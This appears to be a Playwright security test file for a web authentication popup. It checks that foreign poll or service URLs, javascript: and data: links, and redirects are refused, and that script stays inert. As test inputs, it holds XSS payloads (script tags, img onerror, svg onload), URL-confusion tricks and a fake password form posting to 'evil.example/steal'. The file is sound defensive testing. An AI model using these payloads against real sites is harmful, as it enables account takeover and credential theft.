import type { Page, Route } from '@playwright/test'
import { demoPlatform } from './demoPlatform'
import { demoUser, expect, openNewRequest, signIn, test } from './fixtures'
import { countCalls, expectRefusedLink, foreignHost, foreignOrigin, platformCalls, watchPage } from './security'
import { appUrl, platformUrl, serviceInfoUrl } from './urls'

/*
 * Issue 7, hostile links: each one refused with an explanation, no password
 * field ever painted, and no request to the foreign host (routed and counted:
 * it does not resolve, so only the route would see one).
 */

const authPage = `${appUrl}/access/access.html`
const enc = encodeURIComponent

/**
 * Changes the page's poll state answers with `edit` and holds each until
 * `release()`: a trusted poll URL that says something hostile, late.
 */
async function editPollState(page: Page) {
  const control: { edit: (state: Record<string, unknown>) => void; released: Promise<void> } = {
    edit: () => undefined,
    released: Promise.resolve(),
  }
  await page.route(
    (url) => url.href.startsWith(`${platformUrl}/reg/access/`),
    async (route: Route) => {
      if (route.request().method() !== 'GET') return route.continue()
      const answer = await route.fetch()
      const state = (await answer.json()) as Record<string, unknown>
      control.edit(state)
      await control.released
      await route.fulfill({ response: answer, json: state })
    },
  )
  /** The next answers get `edit`, and wait for the returned release. */
  return (edit: (state: Record<string, unknown>) => void): (() => void) => {
    let release = () => undefined as void
    control.edit = edit
    control.released = new Promise<void>((resolve) => (release = resolve))
    return release
  }
}

test('auth popup: a poll URL or a platform elsewhere, or not a web address, is refused before any password field shows', async ({
  page,
}) => {
  const watch = await watchPage(page)
  const trustedPoll = `${platformUrl}/reg/access/abc`
  const cases = [
    { query: `poll=${enc(`${foreignOrigin}/reg/access/abc`)}&serviceInfo=${enc(serviceInfoUrl)}`, shown: foreignHost },
    { query: `pollUrl=${enc(`${foreignOrigin}/reg/access/abc`)}`, shown: foreignHost },
    {
      query: `poll=${enc(trustedPoll)}&pryvServiceInfoUrl=${enc(`${foreignOrigin}/reg/service/info`)}`,
      shown: foreignHost,
    },
    {
      query: `poll=${enc(trustedPoll)}&serviceInfo=${enc(`https://${foreignHost}.:443/reg/service/info`)}`,
      shown: `${foreignHost}.`,
    },
    { query: `poll=${enc('javascript:alert(document.domain)')}`, shown: 'javascript:alert(document.domain)' },
    {
      query: `poll=${enc('data:text/html,<script>alert(1)</script>')}`,
      shown: 'data:text/html,<script>alert(1)</script>',
    },
    { query: `poll=${enc(`//${foreignHost}/reg/access/abc`)}`, shown: `//${foreignHost}/reg/access/abc` },
    { query: `poll=${enc(`${foreignHost}/reg/access/abc`)}`, shown: `${foreignHost}/reg/access/abc` },
    { query: `poll=${enc(`${platformUrl}@${foreignHost}/reg/access/abc`)}`, shown: foreignHost },
  ]
  for (const { query, shown } of cases) {
    await page.goto(`${authPage}?key=abc&requestingAppId=x&${query}`)
    await expectRefusedLink(page, watch, shown)
  }
  expect(await platformCalls()).toEqual([])
})

test('auth popup: a trusted poll URL whose state names a foreign API, register or access URL is refused, and a password typed meanwhile goes nowhere', async ({
  page,
}) => {
  const watch = await watchPage(page)
  const nextPollStates = await editPollState(page)
  for (const role of ['api', 'register', 'access'] as const) {
    const release = nextPollStates((state) => {
      const info = state.serviceInfo as Record<string, string>
      info[role] =
        role === 'api' ? `${foreignOrigin}/{username}/` : `${foreignOrigin}/reg/${role === 'access' ? 'access/' : ''}`
    })
    await openNewRequest(page, { requestingAppId: `test-foreign-${role}` })
    // The form is usable while the poll state loads (issue 6); the submit waits for the state, which refuses the platform.
    await signIn(page, demoUser.username, demoUser.password)
    release()
    await expect(page.getByRole('heading', { name: 'This link cannot be trusted' })).toBeVisible()
    await expect(page.locator('.untrusted-host')).toHaveText(foreignHost)
    await expect(page.getByLabel('Password', { exact: true })).toHaveCount(0)
  }
  const calls = await platformCalls()
  expect(countCalls(calls, /auth\/login|\/uid$/)).toBe(0)
  expect(watch.foreignRequests).toEqual([])
})

test('auth popup: a return address that is not a web address is refused up front, from the link or from the poll state', async ({
  page,
}) => {
  const watch = await watchPage(page)
  for (const returnURL of [
    'javascript:alert(document.domain)',
    'data:text/html,<script>alert(1)</script>',
    `//${foreignHost}/back`,
    'JaVaScRiPt:alert(1)',
  ]) {
    const request = await demoPlatform.createAuthRequest({ requestingAppId: 'test-bad-return', returnURL })
    await page.goto(request.authUrl)
    await expectRefusedLink(page, watch, returnURL)
    await expect(
      page.getByText('this page only sends the app’s answer back to web (http or https) addresses'),
    ).toBeVisible()
  }
  // The link lost its returnURL, the poll state still has it: refused once the state is known, before any sign-in.
  const request = await demoPlatform.createAuthRequest({
    requestingAppId: 'test-bad-return-state',
    returnURL: 'javascript:alert(1)',
  })
  const link = new URL(request.authUrl)
  link.searchParams.delete('returnURL')
  await page.goto(link.href)
  await expect(page.locator('.untrusted-host')).toHaveText('javascript:alert(1)')
  await expect(page.getByLabel('Password', { exact: true })).toHaveCount(0)
  expect(countCalls(await platformCalls(), /auth\/login/)).toBe(0)
  expect(await demoPlatform.pollState(request.poll)).toMatchObject({ status: 'NEED_SIGNIN' })
})

test('auth popup: a REDIRECTED request is followed only to an http(s) address', async ({ page }) => {
  const watch = await watchPage(page)
  for (const redirectUrl of [
    'data:text/html,<script>alert(1)</script>',
    `//${foreignHost}/moved`,
    'javascript:alert(1)',
  ]) {
    const request = await demoPlatform.createAuthRequest({ requestingAppId: 'test-moved' })
    await demoPlatform.postPoll(request.poll, { status: 'REDIRECTED', redirectUrl })
    await page.goto(request.authUrl)
    await expect(page.getByRole('heading', { name: 'Request moved' })).toBeVisible()
    expect(new URL(page.url()).pathname).toBe('/access/access.html')
  }
  expect(watch.foreignRequests).toEqual([])
})

test("auth popup: HTML and script in the app id, permission names and the app's message stay inert text or are sanitized", async ({
  page,
}) => {
  await watchPage(page)
  const appId = '<img src=x onerror="window.hacked=1">app'
  await openNewRequest(page, {
    requestingAppId: appId,
    requestedPermissions: [
      { streamId: 'new-<b>x</b>', level: 'read', defaultName: '<script>window.hacked=2</script>Notes' },
      { feature: '<svg onload="window.hacked=4">', setting: 'x' },
    ],
    clientData: {
      'app-web-auth:description': {
        type: 'note/txt',
        content: [
          'Raw <script>window.hacked=5</script> and <iframe src="javascript:window.hacked=6"></iframe>',
          '<a href="javascript:window.hacked=7">raw link</a> <style>main { display: none }</style>',
          '<form action="https://evil.example/steal"><input name="password" type="password"></form>',
          '[site](https://example.com/about) [bad](javascript:alert(1)) [data](data:text/html,x) ![pic](https://evil.example/pixel.png)',
        ].join('\n\n'),
      },
    },
  })
  await signIn(page, demoUser.username, demoUser.password)

  await expect(page.getByText(`“${appId}” asks to access the data of demo-user`)).toBeVisible()
  await expect(
    page.getByRole('listitem').filter({ hasText: 'Read “<script>window.hacked=2</script>Notes”' }),
  ).toBeVisible()
  await expect(page.getByRole('listitem').filter({ hasText: 'Setting “<svg onload="window.hacked=4">”' })).toBeVisible()
  const message = page.locator('.consent-description')
  await expect(message).toContainText('raw link')
  await expect(message.locator('script, iframe, style, form, input, img, svg')).toHaveCount(0)
  const links = await message.locator('a').evaluateAll((anchors) =>
    anchors.map((a) => ({
      href: a.getAttribute('href'),
      target: a.getAttribute('target'),
      rel: a.getAttribute('rel'),
    })),
  )
  for (const link of links) {
    if (link.href === null) continue
    expect(link.href).toMatch(/^https?:\/\//)
    expect([link.target, link.rel]).toEqual(['_blank', expect.stringContaining('noopener')])
  }
  expect(links.filter((link) => link.href !== null)).toEqual([
    expect.objectContaining({ href: 'https://example.com/about' }),
  ])
  await expect(page.locator('main')).toBeVisible()
  expect(await page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined()
})

test('every page: oversized and malformed query strings never leave a blank page', async ({ page }) => {
  const request = await demoPlatform.createAuthRequest({ requestingAppId: 'test-malformed' })
  const big = 'x'.repeat(100_000)
  const cases: Array<{ path: string; heading: string | RegExp }> = [
    {
      path: `/access/access.html?key=${big}&poll=${enc(`${platformUrl}/reg/access/${big}`)}`,
      heading: 'The request could not be loaded',
    },
    {
      path: `/access/access.html?poll=${enc(request.poll)}&requestingAppId=${big}&lang=${big}&returnURL=${enc('https://app.example/')}${big}`,
      heading: 'Sign in',
    },
    { path: '/access/access.html?poll=%E0%A4%A&key=%&lang=%ZZ', heading: 'This link cannot be trusted' },
    {
      path: `/access/access.html?poll=${enc(request.poll)}&poll=${enc(`${foreignOrigin}/reg/access/x`)}&key=a&key=b`,
      heading: 'Sign in',
    },
    {
      path: `/access/access.html?poll=${enc(`${foreignOrigin}/reg/access/x`)}&poll=${enc(request.poll)}`,
      heading: 'This link cannot be trusted',
    },
    {
      path: `/access/access.html?key=..&serviceInfo=${enc(serviceInfoUrl)}`,
      heading: 'The request could not be loaded',
    },
    { path: '/access/access.html?lang=__proto__&lang=constructor&poll', heading: 'The request could not be loaded' },
    { path: `/access/register.html?pryvServiceInfoUrl=%E0%A4%A&referer=${big}`, heading: 'Create an account' },
    { path: `/access/reset-password.html?resetToken=${big}&lang=%`, heading: 'Choose a new password' },
    { path: `/access/change-password.html?${'a=1&'.repeat(5000)}`, heading: 'Change your password' },
    {
      path: `/access/signinhub.html?pryvServiceInfoUrl=https://${big}.example/`,
      heading: 'This link cannot be trusted',
    },
    { path: `/access/${big}`, heading: 'Page not found' },
  ]
  for (const { path, heading } of cases) {
    await page.goto(path)
    await expect(page.getByRole('heading', { level: 1, name: heading }), path.slice(0, 120)).toBeVisible()
  }
})
